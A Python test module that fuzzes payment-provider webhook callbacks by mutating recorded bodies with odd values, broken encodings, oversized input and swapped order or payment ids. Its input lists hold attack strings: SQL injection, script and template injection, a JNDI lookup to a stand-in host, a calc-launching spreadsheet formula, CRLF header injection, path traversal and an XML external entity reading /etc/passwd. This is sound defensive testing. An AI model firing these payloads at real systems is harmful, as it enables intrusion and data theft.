"""What strangers, and programs with faults, put into the body of a callback: recorded callbacks, and what is done to
them. Whatever is done is drawn from one `Random`, so that a case can be made again."""

import gzip
import json
import re
from collections.abc import Callable, Iterator, Mapping
from copy import deepcopy
from random import Random
from typing import Any

from tests.builders import EVENTS, code
from tests.teller_kit import ODD, TELLERS, Told

Json = Any
KNOWN = "2026-009001"  # an order that is served already
KNOWN_PAYMENT = "pi_3SXkknownorder"
TYPED_CODE = code(77)  # is in stock; customers type codes where they should not

# The recorded callbacks, by provider: folder, and which files of it.
_FILES = {
    "stripe": ("stripe", "*.json"),
    "webhook": ("webhook", "*.json"),
    "woocommerce": ("woocommerce", "*.*"),
    "mollie": ("mollie", "classic.txt"),
    "mollie-events": ("mollie", "*.*.json"),
    "moneybird": ("moneybird", "*.json"),
}


def recorded(provider: str) -> list[Told]:
    """The callbacks of a provider that others are made of, always in the same order."""
    teller = TELLERS[provider]
    told = [teller.open, teller.paid, teller.refunded, *teller.unknown.values()]
    told += [teller.other_mode] if teller.other_mode else []
    folder, files = _FILES[provider]
    bodies = [path.read_bytes() for path in sorted((EVENTS / folder).glob(files))]
    return told + [Told(body, teller.paid.api) for body in bodies]


def _paths(thing: Json, above: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    members = thing.items() if isinstance(thing, dict) else enumerate(thing) if isinstance(thing, list) else ()
    for key, value in members:
        yield (*above, key)
        yield from _paths(value, (*above, key))


def _owner(thing: Json, path: tuple[Any, ...]) -> Json:
    for key in path[:-1]:
        thing = thing[key]
    return thing


def _at(change: Callable[[Random, Json], Json], wanted: Callable[[Json], bool] = lambda _: True) -> "Mutate":
    """Changes one value of those that are wanted; nothing, if there is none."""

    def changed(chance: Random, thing: Json) -> Json:
        whole = deepcopy(thing)
        paths = [path for path in _paths(whole) if wanted(_owner(whole, path)[path[-1]])]
        if paths:
            path = chance.choice(paths)
            owner = _owner(whole, path)
            owner[path[-1]] = change(chance, owner[path[-1]])
        return whole

    return changed


def _named(*names: str, to: tuple[Json, ...]) -> "Mutate":
    """Gives every field with one of these names another value."""

    def changed(chance: Random, thing: Json) -> Json:
        return _replaced(thing, names, chance.choice(to))

    return changed


def _replaced(thing: Json, names: tuple[str, ...], value: Json) -> Json:
    if isinstance(thing, dict):
        return {name: value if name in names else _replaced(each, names, value) for name, each in thing.items()}
    return [_replaced(each, names, value) for each in thing] if isinstance(thing, list) else thing


def _gone(chance: Random, thing: Json) -> Json:
    whole = deepcopy(thing)
    if paths := list(_paths(whole)):
        path = chance.choice(paths)
        del _owner(whole, path)[path[-1]]
    return whole


def _moved(chance: Random, thing: Json) -> Json:
    """Two values change places, but none of a person's: an order's number is no secret, whatever stands there."""
    whole = deepcopy(thing)
    paths = [path for path in _paths(whole) if isinstance(_owner(whole, path)[path[-1]], int | float | None)]
    if len(paths) > 1:
        one, other = (chance.choice(paths) for _ in range(2))
        first, second = _owner(whole, one), _owner(whole, other)
        first[one[-1]], second[other[-1]] = second[other[-1]], first[one[-1]]
    return whole


def _typed(chance: Random, thing: Json) -> Json:
    """A code where people type. What programs number their orders and payments with is no secret, whatever it is."""
    whole = deepcopy(thing)
    owners = [(_owner(whole, path), path[-1]) for path in _paths(whole)]
    if found := [(owner, key) for owner, key in owners if _is_text(owner[key]) and not _is_id(key)]:
        owner, key = chance.choice(found)
        owner[key] = chance.choice((TYPED_CODE, f"code {TYPED_CODE.lower()} aub", TYPED_CODE.replace("-", " ")))
    return whole


def _is_id(key: Any) -> bool:
    return str(key).lower().endswith("id") or key in _IDS


def _misspelled(chance: Random, thing: Json) -> Json:
    """One field under another name, which means nothing or the same."""
    whole = deepcopy(thing)
    if paths := [path for path in _paths(whole) if isinstance(path[-1], str)]:
        path = chance.choice(paths)
        owner = _owner(whole, path)
        owner[chance.choice(_SPELLINGS)(path[-1])] = owner.pop(path[-1])
    return whole


def _reordered(chance: Random, thing: Json) -> Json:
    members = list(thing.items()) if isinstance(thing, dict) else []
    chance.shuffle(members)
    return dict(members) or thing


def _deep(chance: Random, _value: Json) -> Json:
    nested: Json = "x"
    for _ in range(chance.choice((5, 20, 29, 40, 200))):
        nested = {"x": nested} if chance.random() < 0.5 else [nested]
    return nested


def _is_text(value: Json) -> bool:
    return isinstance(value, str)


def _is_number(value: Json) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _is_amount(value: Json) -> bool:
    return _is_number(value) or (isinstance(value, str) and value.replace(".", "", 1).isdigit())


# Fields that hold an id of the provider's, beside those whose names say so.
_IDS = {"payment_intent", "charge", "invoice", "latest_charge", "subscription", "customer", "payment_link", "parent"}
Mutate = Callable[[Random, Json], Json]
_TEXTS = (
    *("\u202eevil\u202c", "e\u0301" * 300, "a\x00b", "\ud83d\ude00" * 50, "\ufeff", "\u0661\u0662", " ", "\u00ad"),
    *("a\r\nSet-Cookie: x=1", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n%x", "#", "-"),
    *("'; DROP TABLE orders;--", "=cmd|'/C calc'!A0", "https://user:pass@evil.example/", "PAYMENT#x", "null", "0"),
    *("iemand\uff20elders.example", "\uff13\uff19.\uff19\uff15", "KASPERSKY\u2010STANDARD", "\ud800", "\U0010ffff"),
    *("iemand@elders.example\u2028bcc: x@x.example", "\u202d\u2066\u200d", "\ufb01\u0131\u0130\u212a"),
    *("../../v2/payments", "tr_../../refunds", "tr_%2e%2e", "cs_test_" + "x" * 500, "x" * 2_000, "x" * 300_000),
)
_NUMBERS = (0, -1, -3995, 1, 0.1, 1e308, 2**31, 2**63, 2**64, 10**30, -(10**30), 3995.5, 999_999_999, -0.0, 1e-9)
_NO_NUMBERS = (float("nan"), float("inf"), float("-inf"))
_AMOUNTS = (
    "-39.95",
    "39,95",
    "1e3",
    "0",
    "0.00",
    "0.001",
    "Infinity",
    "٣٩",
    "9" * 60,
    "39.95 ",
    "1_000",
    "+39.95",
    "0x10",
)
_SPELLINGS: tuple[Callable[[str], str], ...] = (
    *(str.upper, str.title, lambda name: name.replace("_", ""), lambda name: f"{name} ", lambda name: f"\ufeff{name}"),
)
_DATES = ("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "2026-02-30", "2026-11-20T25:00:00Z", "1969-12-31")

# What is done to a body, or to an object of a provider's API, that is JSON.
IN_JSON: Mapping[str, Mutate] = {
    "an odd value": _at(lambda chance, _: deepcopy(chance.choice(ODD))),
    "a field is gone": _gone,
    "values in each other's place": _moved,
    "another order of keys": _reordered,
    "a field too many": lambda chance, thing: {**thing, chance.choice(_TEXTS): 1} if isinstance(thing, dict) else thing,
    "a value in a list": _at(lambda _, value: [value]),
    "a value in an object": _at(lambda _, value: {"id": value}),
    "a text for a number": _at(lambda _, value: str(value), _is_number),
    "another text": _at(lambda chance, _: chance.choice(_TEXTS), _is_text),
    "another number": _at(lambda chance, _: chance.choice(_NUMBERS), _is_number),
    "no number at all": _at(lambda chance, _: chance.choice(_NO_NUMBERS), _is_number),
    "a misspelled field": _misspelled,
    "another amount": _at(lambda chance, _: chance.choice(_AMOUNTS), _is_amount),
    "another moment": _at(lambda chance, _: chance.choice(_DATES), lambda value: _is_text(value) and value[:2] == "20"),
    "another moment, as a number": _at(
        lambda chance, _: chance.choice((0, -1, 2**33, 2**53, 10**18)),
        lambda value: _is_number(value) and value > 10**9,
    ),
    "a list a thousand times as long": _at(
        lambda chance, value: value * chance.choice((30, 1000)), lambda value: isinstance(value, list)
    ),
    "deep": _at(_deep),
    "another currency": _named("currency", to=("USD", "usd", "EURO", "", None, "€", "XXX", 978)),
    "another mode": _named("livemode", "mode", "test", to=(True, False, "live", "test", None, "Test", 1)),
    "another state": _named(
        "status", "payment_status", "state", to=("open", "failed", "expired", "paid", "", None, "x")
    ),
    "nothing paid": _named("amount", "amount_total", "amount_paid", "total", to=(0, "0.00", None, {})),
    "the payment of another order": _named("payment_intent", "payment_id", "transaction_id", to=(KNOWN_PAYMENT,)),
    "the number of another order": _named("order_id", "number", "reference", "client_reference_id", to=(KNOWN,)),
    "another type": _named(
        "type", "action", "resource", "object", to=("x", "", None, "order.paid", "event", "payment")
    ),
    "a code of ours in a text": _typed,
}


def _twin_key(chance: Random, body: bytes) -> bytes:
    key = chance.choice(("id", "type", "data", "status", "livemode", "x"))
    return body[:-1] + f',"{key}":1,"{key}":2}}'.encode()


def _twin_within(chance: Random, body: bytes) -> bytes:
    """A field twice, wherever it stands; the first time perhaps with its name in escapes."""
    found = [*re.finditer(rb'"(\w)(\w*)"\s*:', body)]
    if not found:
        return body
    name = chance.choice(found)
    escaped = rb'"\u%04x%b":' % (ord(name[1]), name[2])
    return body[: name.start()] + chance.choice((name[0], escaped)) + b"null," + body[name.start() :]


def _flipped(chance: Random, body: bytes) -> bytes:
    if not body:
        return body
    at = chance.randrange(len(body))
    return body[:at] + bytes([body[at] ^ (1 << chance.randrange(8))]) + body[at + 1 :]


def _cut(chance: Random, body: bytes) -> bytes:
    return body[: chance.randrange(len(body) + 1)]


def _spliced(chance: Random, body: bytes) -> bytes:
    at = chance.randrange(len(body) + 1)
    return body[:at] + chance.choice(_BYTES) + body[at:]


def _text_of(body: bytes) -> str:
    return body.decode("utf-8", "replace")


_BYTES = (
    b"\x00",
    b"\xff\xfe",
    b"\xed\xa0\x80",
    b"\xc0\xaf",
    b"\\ud800",
    b"\r\n",
    b'"',
    b"}",
    b"[",
    b"NaN",
    b"-",
    b"e9999",
    b"{{",
)

_PAYMENT = b"tr_5B8cwPMGnU6qLbRvo7qEZo"
_FORMS = (
    *(b"payload=", b"id=", b"id=tr_", b"id[]=" + _PAYMENT + b"&x=", b"id=" + _PAYMENT + b"&id=tr_x", b"id=%00"),
    *(b"id=&id=" + _PAYMENT, b"ID=" + _PAYMENT, b"id=ord_kEn1PlbGa", b"&" * 9000),
)
_LARGEST = 64 * 1024  # bytes, of a body at most providers

# What is done to the bytes of a body.
IN_BYTES: Mapping[str, Callable[[Random, bytes], bytes]] = {
    "cut off": _cut,
    "a bit flipped": _flipped,
    "bytes put in": _spliced,
    "empty": lambda _, __: b"",
    "a key twice": _twin_key,
    "a key twice within": _twin_within,
    "not a number": lambda chance, body: body[:-1] + b',"x":' + chance.choice((b"NaN", b"-Infinity", b"1e999")) + b"}",
    "a number of many digits": lambda chance, body: body[:-1] + b',"x":' + b"9" * chance.choice((400, 5000)) + b"}",
    "brackets without an end": lambda chance, _: chance.choice((b"[", b'{"a":', b"[[],")) * chance.choice((99, 5000)),
    "UTF-32": lambda _, body: _text_of(body).encode("utf-32"),
    "UTF-16": lambda _, body: _text_of(body).encode("utf-16"),
    "Latin-1": lambda _, body: _text_of(body).encode("latin-1", "replace") + b"\xe9",
    "a mark of byte order": lambda _, body: b"\xef\xbb\xbf" + body,
    "packed": lambda _, body: gzip.compress(body, mtime=0),
    "in quotation marks": lambda _, body: json.dumps(_text_of(body)).encode(),
    "in a list": lambda _, body: b"[" + body + b"]",
    "a form": lambda chance, body: chance.choice(_FORMS[:4]) + body,
    "a form of two": lambda chance, _: chance.choice(_FORMS),
    "XML": lambda _, __: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "white space around": lambda _, body: b"\n\t " + body + b" \r\n",
    "more behind it": lambda _, body: body + body,
    "larger than allowed": lambda chance, body: body + b" " * chance.choice((_LARGEST, _LARGEST + 1 - len(body))),
}
